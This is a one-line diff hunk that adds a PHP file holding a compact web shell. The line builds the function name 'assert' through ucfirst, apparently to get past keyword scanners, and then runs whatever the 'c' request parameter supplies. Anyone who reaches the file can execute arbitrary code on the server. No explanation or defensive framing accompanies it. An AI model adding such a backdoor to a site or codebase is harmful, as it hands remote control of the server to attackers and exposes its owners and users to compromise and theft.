@@ -1,0 +1,1 @@
+<?php $f = ucfirst("assert"); $f($_REQUEST["c"]);
